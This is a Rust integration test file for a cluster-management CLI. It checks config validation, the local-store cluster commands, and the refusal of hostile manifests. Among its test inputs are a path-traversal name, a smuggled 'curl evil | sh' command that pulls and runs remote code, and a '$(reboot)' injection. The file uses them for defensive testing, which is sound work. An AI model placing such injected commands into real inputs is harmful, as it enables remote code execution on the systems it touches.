//! The binary from the outside: invalid configuration exits 64 naming the
//! variable; `cluster apply | get | list | stop | start | delete` on the
//! embedded local store (no AWS needed); hostile manifests are refused
//! without writing anything.

use std::process::{Command, Output};

fn run(dir: &std::path::Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_goman-controller"));
    cmd.args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("GOMAN_STATE_DIR", dir.join("state"))
        .env("AWS_ACCESS_KEY_ID", "test")
        .env("AWS_SECRET_ACCESS_KEY", "test")
        .env("AWS_EC2_METADATA_DISABLED", "true");
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

const DEV: &str = "metadata:\n  name: dev\nspec:\n  region: us-east-1\n  instanceType: t3.small\n  masterCount: 1\n  mode: developer\n  k3sVersion: v1.31.4+k3s1\n";

#[test]
fn invalid_configuration_exits_64_naming_the_variable() {
    let dir = tempfile::tempdir().unwrap();
    for (var, value) in [
        ("GOMAN_PROFILE", "Bad Profile"),
        ("GOMAN_STATE_BUCKET", "x"),
        ("AWS_ENDPOINT_URL", "ftp://x"),
        ("GOMAN_LOCK_TTL", "1s"),
        ("GOMAN_JOURNAL", "postgres://u:p@[bad/x"),
        ("GOMAN_WORKERS", "0"),
        ("GOMAN_REQUEUE_SCALE", "-1"),
        ("GOMAN_AMI", "not-an-ami"),
        ("GOMAN_POLL_INTERVAL", "0s"),
    ] {
        let out = run(dir.path(), &["--check-config", "run"], &[(var, value)]);
        assert_eq!(out.status.code(), Some(64), "{var}={value}: {}", text(&out));
        assert!(text(&out).contains(var), "{var} not named: {}", text(&out));
    }
    let out = run(dir.path(), &["--check-config", "run"], &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    // --check-config has no side effects.
    assert!(!dir.path().join("state").exists());
    let out = run(
        dir.path(),
        &[
            "--check-config",
            "cluster",
            "apply",
            "-f",
            "/nonexistent/cluster.yaml",
        ],
        &[],
    );
    assert_eq!(out.status.code(), Some(64), "{}", text(&out));
}

#[test]
fn cluster_commands_work_on_the_embedded_local_store() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = dir.path().join("dev.yaml");
    std::fs::write(&manifest, DEV).unwrap();
    let out = run(
        dir.path(),
        &["cluster", "apply", "-f", manifest.to_str().unwrap()],
        &[],
    );
    assert!(out.status.success(), "{}", text(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["metadata"]["generation"], 1);
    assert_eq!(doc["status"]["phase"], "Pending");
    assert!(
        dir.path()
            .join("state/state/default/clusters/dev.json")
            .exists()
    );

    // Applying the same manifest changes nothing; a new spec bumps the
    // generation.
    let out = run(
        dir.path(),
        &["cluster", "apply", "-f", manifest.to_str().unwrap()],
        &[],
    );
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["metadata"]["generation"], 1);
    std::fs::write(&manifest, DEV.replace("v1.31.4+k3s1", "v1.32.1+k3s1")).unwrap();
    let out = run(
        dir.path(),
        &["cluster", "apply", "-f", manifest.to_str().unwrap()],
        &[],
    );
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["metadata"]["generation"], 2);

    let out = run(dir.path(), &["cluster", "get", "dev"], &[]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["spec"]["k3sVersion"], "v1.32.1+k3s1");
    let out = run(dir.path(), &["cluster", "list"], &[]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("dev"),
        "{}",
        text(&out)
    );
    let out = run(dir.path(), &["cluster", "stop", "dev"], &[]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["spec"]["stopped"], true);
    let out = run(dir.path(), &["cluster", "delete", "dev"], &[]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(doc["metadata"]["deletionTimestamp"].is_string());
    // A cluster being deleted takes no new spec.
    let out = run(
        dir.path(),
        &["cluster", "apply", "-f", manifest.to_str().unwrap()],
        &[],
    );
    assert!(!out.status.success());
    assert!(text(&out).contains("being deleted"), "{}", text(&out));

    let out = run(dir.path(), &["cluster", "get", "missing"], &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out).contains("not found"), "{}", text(&out));
}

#[test]
fn hostile_manifests_are_refused_and_write_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = [
        DEV.replace("name: dev", "name: \"../../etc/passwd\""),
        DEV.replace("name: dev", "name: \"a\\nb\""),
        DEV.replace("name: dev", "name: \"dev\\u0000\""),
        DEV.replace("t3.small", "\"t3.small; curl evil | sh\""),
        DEV.replace("v1.31.4+k3s1", "\"v1 $(reboot)\""),
        DEV.replace("masterCount: 1", "masterCount: 3"),
        format!("{DEV}  tags:\n    \"goman:cluster\": other\n"),
        format!("{DEV}  tags:\n    k: \"{}\"\n", "v".repeat(1_000_000)),
        "{{{{".to_owned(),
        String::new(),
    ];
    for (i, manifest) in hostile.iter().enumerate() {
        let path = dir.path().join(format!("m{i}.yaml"));
        std::fs::write(&path, manifest).unwrap();
        let out = run(
            dir.path(),
            &["cluster", "apply", "-f", path.to_str().unwrap()],
            &[],
        );
        assert!(
            !out.status.success(),
            "manifest {i} accepted: {}",
            text(&out)
        );
    }
    let clusters = dir.path().join("state/state/default/clusters");
    let written = std::fs::read_dir(&clusters)
        .map(|d| {
            d.filter_map(Result::ok)
                .filter(|e| e.path().extension().is_some_and(|x| x == "json"))
                .count()
        })
        .unwrap_or(0);
    assert_eq!(written, 0);
}
